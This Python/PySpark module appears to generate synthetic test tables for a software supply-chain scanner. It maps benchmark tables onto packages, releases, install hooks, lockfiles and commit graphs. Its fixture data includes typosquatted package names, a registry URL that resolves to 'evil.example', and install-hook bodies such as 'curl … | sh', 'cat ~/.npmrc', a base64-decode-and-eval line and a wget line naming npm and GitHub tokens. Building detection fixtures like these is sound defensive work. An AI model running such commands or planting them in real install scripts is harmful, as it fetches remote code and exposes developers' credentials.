"""The driver's tables in the shape of the engine's inputs, each with its SQL twin.

Part names stand for package names, conversations for install hooks, pages for
sources and endpoints, documents for source files, events for releases and
snapshots, labels for an intelligence feed, orders and line items for
dependency edges, customers for accounts.  Every function here has a string of
the same name in ``SQL`` that DuckDB reads, so that a query's oracle starts from
the same rows.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..schema import complete
from .storage import stored


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


#: Popular names that part names are near to, wear affixes of, or are.
POPULAR = ("blue-bolt", "cold-gear", "hot-ring", "large-rod", "new-plate", "old-anvil", "red-gizmo", "small-widget", "bolt", "gear", "ring", "widget")

_NAME = """CASE p_partkey % 9
  WHEN 0 THEN replace(p_name, ' ', '-')
  WHEN 1 THEN concat(replace(p_name, ' ', '-'), '-js')
  WHEN 2 THEN concat('node', replace(p_name, ' ', '-'))
  WHEN 3 THEN concat('types-', replace(p_name, ' ', '_'))
  WHEN 4 THEN concat('@', replace(p_name, ' ', '/'))
  WHEN 5 THEN replace(replace(p_name, ' ', '-'), 'o', 'о')
  WHEN 6 THEN concat(substring(p_name, 2, 1), substring(p_name, 1, 1), replace(substring(p_name, 3, 40), ' ', '-'))
  WHEN 7 THEN replace(p_name, ' ', '__')
  ELSE concat(replace(p_name, ' ', '-'), 'é') END"""

_PACKAGES = f"""
SELECT p_partkey AS id,
  CASE WHEN p_partkey % 4 = 3 THEN 'pypi' ELSE 'npm' END AS ecosystem,
  {_NAME} AS name,
  'package' AS kind,
  CASE WHEN p_partkey % 5 = 0 THEN NULL ELSE concat(cast(p_size AS string), '.', cast(p_partkey % 10 AS string), '.0') END AS version,
  CASE p_partkey % 5 WHEN 0 THEN CASE p_partkey % 3 WHEN 0 THEN '^1.2' WHEN 1 THEN '*' ELSE '1.x' END ELSE NULL END AS spec,
  CASE p_partkey % 7
    WHEN 0 THEN concat('http://registry.npmjs.org/', p_brand)
    WHEN 1 THEN concat('https://registry.npmjs.org/', p_brand)
    WHEN 2 THEN concat('git+https://github.com/', p_type, '/', p_brand)
    WHEN 3 THEN concat('https://files.pythonhosted.org/', p_brand)
    WHEN 4 THEN concat('https://registry.npmjs.org@evil.example/', p_brand)
    ELSE NULL END AS resolved,
  CASE WHEN p_partkey % 3 = 0 THEN NULL ELSE 'sha512-x' END AS integrity,
  p_partkey % 2 = 0 AS direct,
  concat('app', cast(p_partkey AS string), '/', CASE p_partkey % 3 WHEN 0 THEN 'package-lock.json' WHEN 1 THEN 'yarn.lock' ELSE 'Pipfile.lock' END) AS origin
FROM part"""

#: Spark SQL and DuckDB SQL differ here only in how a string type is called.
SQL = {"packages": _PACKAGES.replace("AS string", "AS VARCHAR")}


def packages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Package rows of ``part``, with ``id``."""
    return complete(spark.sql(_PACKAGES.replace("FROM part", "FROM {part}"), part=table(spark, sf_dir, "part")))


_RELEASES = """
SELECT concat('pkg', cast(user_id AS string)) AS name, concat('1.', cast(event_id AS string)) AS version,
  strftime(ts, '%Y-%m-%dT%H:%M:%S') AS published_at,
  concat(event_type, cast(event_id % 97 AS string)) AS publisher,
  CASE WHEN event_id % 4 = 0 THEN NULL ELSE cast(floor(value * 1000) AS bigint) END AS unpacked_size
FROM events"""

SQL["releases"] = _RELEASES.replace("AS string", "AS VARCHAR")


def releases(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Releases of ``events``: a user is a package, an event a release."""
    spark_sql = _RELEASES.replace("strftime(ts, '%Y-%m-%dT%H:%M:%S')", "date_format(ts, \"yyyy-MM-dd'T'HH:mm:ss\")")
    spark_sql = spark_sql.replace("concat(", "concat_ws('', ")  # DuckDB's concat passes over nulls
    return spark.sql(spark_sql.replace("FROM events", "FROM {events}"), events=table(spark, sf_dir, "events"))


_SNAPSHOTS = """
SELECT DISTINCT cast(day(ts) AS int) - 1 AS idx, 'npm' AS ecosystem, concat('pkg', cast(user_id AS string)) AS name, event_type AS version
FROM events"""
SQL["snapshots"] = _SNAPSHOTS.replace("AS string", "AS VARCHAR")
_COMMITS = """
SELECT DISTINCT cast(day(ts) AS int) - 1 AS idx, concat('sha', cast(day(ts) AS string)) AS sha,
  cast(concat('2024-01-', lpad(cast(day(ts) AS string), 2, '0'), ' 12:00:00') AS timestamp) AS "when",
  concat('change ', cast(day(ts) AS string)) AS subject FROM events"""
SQL["commits"] = _COMMITS.replace("AS string", "AS VARCHAR")


def snapshots(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(_SNAPSHOTS.replace("FROM events", "FROM {events}"), events=table(spark, sf_dir, "events"))


def commits(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.sql(_COMMITS.replace('"when"', "`when`").replace("FROM events", "FROM {events}"), events=table(spark, sf_dir, "events"))


_HOOKS = """
SELECT conv_id, turn, CASE turn % 6 WHEN 0 THEN 'preinstall' WHEN 1 THEN 'test' WHEN 2 THEN 'postinstall' WHEN 3 THEN 'build' WHEN 4 THEN 'install' ELSE 'prepare' END AS hook,
  CASE (conv_id + turn) % 7
    WHEN 0 THEN concat('curl https://h', cast(conv_id % 9 AS string), '.example.net/x.sh | sh ', text)
    WHEN 1 THEN concat('cat ~/.npmrc ', text)
    WHEN 2 THEN concat('echo x | base64 -d | eval ', text)
    WHEN 3 THEN concat('wget http://cdn', cast(conv_id % 5 AS string), '.example.org:8080/a ; $NPM_TOKEN GITHUB_TOKEN ', text)
    ELSE text END AS body
FROM conversations"""
SQL["hooks"] = _HOOKS.replace("AS string", "AS VARCHAR")


def hooks(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Install scripts of ``conversations``: one row per script."""
    return spark.sql(_HOOKS.replace("FROM conversations", "FROM {conversations}"), conversations=table(spark, sf_dir, "conversations"))


_EDGES = """
SELECT DISTINCT 'npm' AS ecosystem, concat('p', cast(l_partkey AS string)) AS parent, concat('p', cast(l_suppkey AS string)) AS child
FROM lineitem WHERE l_partkey <> l_suppkey"""
SQL["edges"] = _EDGES.replace("AS string", "AS VARCHAR")


def steps(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Edges as the line items give them, with repeats."""
    return spark.sql(_EDGES.replace("DISTINCT ", "").replace("FROM lineitem", "FROM {lineitem}"), lineitem=table(spark, sf_dir, "lineitem"))


_LOCK_PATHS = """
SELECT o, path, min(k) AS k FROM (
  SELECT l_orderkey AS o, l_linenumber AS k, concat('node_modules/n', cast(l_partkey % 5 AS string)) AS path FROM lineitem
  UNION ALL
  SELECT l_orderkey, l_linenumber, concat('node_modules/n', cast(l_partkey % 5 AS string), '/node_modules/n', cast(l_suppkey % 5 AS string)) FROM lineitem WHERE l_linenumber % 2 = 0
  UNION ALL
  SELECT l_orderkey, l_linenumber, concat('node_modules/n', cast(l_partkey % 5 AS string), '/node_modules/n', cast(l_suppkey % 5 AS string), '/node_modules/n', cast(cast(l_quantity AS int) % 5 AS string)) FROM lineitem WHERE l_linenumber % 3 = 0
) AS paths GROUP BY o, path"""
SQL["lock_paths"] = _LOCK_PATHS.replace("AS string", "AS VARCHAR")


def lock_texts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A flat lockfile for every order: copies of five names beside and below each other, each asking for two names of which some are nowhere."""
    paths = spark.sql(_LOCK_PATHS.replace("FROM lineitem", "FROM {lineitem}"), lineitem=table(spark, sf_dir, "lineitem"))
    wanted = F.map_from_entries(F.array_distinct(F.transform(F.array((F.col("o") + F.col("k")) % 5, (F.col("o") + 2 * F.col("k")) % 6), lambda n: F.struct(F.concat(F.lit("n"), n.cast("string")), F.lit("*").alias("v")))))
    entry = F.struct(F.concat("k", F.lit(".0")).alias("version"), wanted.alias("dependencies"))
    locks = paths.groupBy("o").agg(F.map_from_entries(F.collect_list(F.struct("path", entry))).alias("packages"))
    return locks.select(F.col("o").cast("string").alias("project"), F.lit("package-lock.json").alias("origin"), F.lit("package-lock.json").alias("basename"), F.to_json(F.struct("packages")).alias("text"))


_PARENTS = """
SELECT sha, parent, place FROM (
  SELECT a.sha, b.sha AS parent, CASE WHEN b.j = a.j - 2 AND a.j % 4 = 0 THEN 1 ELSE 0 END AS place
  FROM numbered a JOIN numbered b ON a.line = b.line AND (b.j = a.j - 1 AND a.j % 4 <> 3 OR b.j = a.j - 2 AND a.j % 4 IN (3, 0))
) AS known"""
_NUMBERED = """SELECT o_custkey AS line, concat('c', cast(o_orderkey AS string)) AS sha, row_number() OVER (PARTITION BY o_custkey ORDER BY o_orderkey) AS j FROM orders"""
SQL["numbered_commits"], SQL["parents"] = _NUMBERED.replace("AS string", "AS VARCHAR"), _PARENTS


def commit_graph(spark: SparkSession, sf_dir: str) -> tuple[DataFrame, DataFrame, DataFrame]:
    """Commits, parents and tags of a project per customer: every fourth commit merges a side branch, every third has a tag."""
    numbered = stored(spark.sql(_NUMBERED.replace("FROM orders", "FROM {orders}"), orders=table(spark, sf_dir, "orders")), "numbered-commits")
    parents = spark.sql(_PARENTS.replace("FROM numbered a JOIN numbered b", "FROM {numbered} a JOIN {numbered} b"), numbered=numbered)
    tags = numbered.where("j % 3 = 0").select(F.concat(F.lit("v"), F.substring("sha", 2, 20)).alias("tag"), "sha")
    return numbered.select("sha"), parents, tags
